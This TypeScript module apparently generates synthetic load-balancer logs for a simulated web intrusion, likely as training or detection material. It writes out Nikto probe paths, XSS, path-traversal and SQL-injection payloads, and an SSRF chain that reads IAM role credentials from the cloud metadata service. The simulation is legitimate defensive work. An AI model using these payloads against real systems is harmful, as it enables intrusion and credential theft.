/**
 * The attacker's web requests: a nikto scan, XSS payloads in the user agent,
 * path traversal, sqlmap against the products API, then the SSRF in the
 * image preview endpoint that reads web-1's role credentials from IMDS.
 */
import type { Rng } from './rng';
import { entry, type AlbEntry, type Hit } from './albTraffic';
import { INCIDENT, XSS_IMG, XSS_SCRIPT } from './incidentTimeline';
import { ALB, ATTACKER_IP, WEB_1, WEB_ROLE, WEB_INSTANCES } from './world';

const NIKTO_PATHS = [
  '/admin/', '/administrator/', '/phpmyadmin/', '/pma/', '/.git/config', '/.env', '/.aws/credentials', '/backup.zip',
  '/backup.tar.gz', '/db.sql', '/dump.sql', '/wp-login.php', '/wp-admin/', '/xmlrpc.php', '/cgi-bin/test.cgi',
  '/cgi-bin/php', '/server-status', '/server-info', '/config.php', '/config.json', '/web.config', '/.htaccess',
  '/.DS_Store', '/id_rsa', '/etc/passwd', '/login.php', '/console/', '/manager/html', '/jmx-console/', '/solr/',
  '/phpinfo.php', '/info.php', '/test.php', '/shell.php', '/upload.php', '/api/swagger.json', '/swagger-ui.html',
  '/actuator/env', '/debug/pprof/', '/.svn/entries', '/CHANGELOG.txt', '/README.md', '/composer.json', '/package.json',
];

const TRAVERSAL = [
  '/static/../../../../etc/passwd',
  '/static/..%2f..%2f..%2f..%2fetc%2fpasswd',
  '/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/shadow',
  '/api/v1/files?name=../../../../etc/passwd',
  '/api/v1/files?name=..%252f..%252f..%252fproc%252fself%252fenviron',
  '/static/....//....//....//etc/hosts',
  '/download?file=../../../../root/.aws/credentials',
];

const SQLI = [
  "1'",
  '1%27%20AND%201%3D1--%20-',
  '1%27%20AND%201%3D2--%20-',
  '1%20AND%20SLEEP(5)',
  '1%27%20OR%20%271%27%3D%271',
  '1%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--%20-',
  '1%20UNION%20ALL%20SELECT%20username,password_hash,email%20FROM%20users--%20-',
  '1%29%20AND%20%28SELECT%204721%20FROM%20%28SELECT%28SLEEP%285%29%29%29a%29--%20-',
  '1%3B%20SELECT%20pg_sleep(5)--',
  '-1%20OR%203*2*1%3D6%20AND%20000812%3D000812',
];

const NIKTO_UA = (test: number): string => `Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:${String(test).padStart(6, '0')})`;
const SQLMAP_UA = 'sqlmap/1.8.3#stable (https://sqlmap.org)';

export function incidentAlb(rng: Rng): AlbEntry[] {
  const node = ALB.nodes[0];
  const ports = Array.from({ length: 6 }, () => rng.int(40000, 60999));
  const out: AlbEntry[] = [];
  const hit = (h: Omit<Hit, 'clientIp' | 'clientPort'> & { clientPort?: number }): void => {
    out.push(entry(rng, { clientIp: ATTACKER_IP, clientPort: h.clientPort ?? rng.pick(ports), ...h }, node));
  };

  let t = INCIDENT.niktoStart;
  for (let i = 0; i < 230; i++) {
    const path = i < NIKTO_PATHS.length ? NIKTO_PATHS[i] : `/${rng.lowerAlnum(rng.int(4, 9))}${rng.pick(['.php', '.asp', '.bak', '/', '.old', '.cgi'])}`;
    const found = path === '/package.json' || path === '/README.md';
    hit({
      time: t,
      method: rng.chance(0.9) ? 'GET' : 'HEAD',
      path,
      userAgent: NIKTO_UA(i + 1),
      status: found ? 200 : 404,
      target: rng.pick(WEB_INSTANCES),
      sentBytes: found ? rng.int(900, 4000) : rng.int(300, 560),
    });
    t += rng.int(300, 2200);
  }
  hit({ time: t + 2000, method: 'GET', path: '/search?q=<script>alert(document.domain)</script>', userAgent: NIKTO_UA(999), status: 200, target: WEB_1, sentBytes: 6400 });

  t = INCIDENT.xssProbes;
  for (const ua of [XSS_SCRIPT, XSS_IMG, XSS_SCRIPT]) {
    hit({ time: t, method: 'GET', path: '/', userAgent: ua, status: 200, target: rng.pick(WEB_INSTANCES), sentBytes: rng.int(9000, 12000) });
    t += rng.int(2000, 6000);
  }
  hit({ time: t, method: 'GET', path: `/search?q=${encodeURIComponent(XSS_IMG)}`, userAgent: XSS_IMG, status: 200, target: WEB_1, sentBytes: 6400 });

  t = INCIDENT.traversal;
  for (const path of TRAVERSAL) {
    const encoded = path.includes('%');
    hit({
      time: t,
      method: 'GET',
      path,
      userAgent: 'curl/8.5.0',
      status: encoded ? 404 : 400,
      target: encoded ? WEB_1 : null,
      actions: encoded ? 'forward' : 'fixed-response',
      sentBytes: rng.int(200, 500),
    });
    t += rng.int(1500, 5000);
  }

  t = INCIDENT.sqlmapStart;
  for (let i = 0; i < 120; i++) {
    const payload = i < SQLI.length ? SQLI[i] : `1${rng.pick(SQLI).slice(1)}${rng.chance(0.5) ? `%20AND%20${rng.int(1000, 9999)}%3D${rng.int(1000, 9999)}` : ''}`;
    const error = rng.chance(0.3);
    const sleepy = payload.includes('SLEEP') || payload.includes('sleep');
    hit({
      time: t,
      method: 'GET',
      path: `/api/v1/products?id=${payload}`,
      userAgent: SQLMAP_UA,
      status: error ? 500 : 200,
      target: rng.pick(WEB_INSTANCES),
      sentBytes: error ? rng.int(300, 700) : rng.int(900, 3000),
      targetSeconds: sleepy ? rng.float(5.0, 5.2) : undefined,
    });
    t += sleepy ? rng.int(5200, 6000) : rng.int(300, 1500);
  }

  // sqlmap with --skip-urlencode: a raw space in the URI, which the load balancer's desync mitigation classifies.
  hit({
    time: t + 1200,
    method: 'GET',
    path: '/api/v1/products?id=1 UNION ALL SELECT NULL,version(),NULL-- -',
    userAgent: SQLMAP_UA,
    status: 500,
    target: WEB_1,
    sentBytes: 512,
    classification: 'Acceptable',
    classificationReason: 'SpaceInUri',
  });

  const ssrf = (time: number, url: string, sent: number): void =>
    hit({ time, method: 'GET', path: `/api/v1/preview?url=${url}`, userAgent: 'python-requests/2.31.0', status: 200, target: WEB_1, sentBytes: sent });
  ssrf(INCIDENT.ssrfProbe, 'https://example.com/', 1580);
  ssrf(INCIDENT.ssrfProbe + 17_000, 'http://169.254.169.254/latest/meta-data/', 710);
  ssrf(INCIDENT.ssrfProbe + 33_000, 'http://169.254.169.254/latest/meta-data/iam/security-credentials/', 420);
  ssrf(INCIDENT.credentialTheft, `http://169.254.169.254/latest/meta-data/iam/security-credentials/${WEB_ROLE.name}`, 1742);
  return out;
}
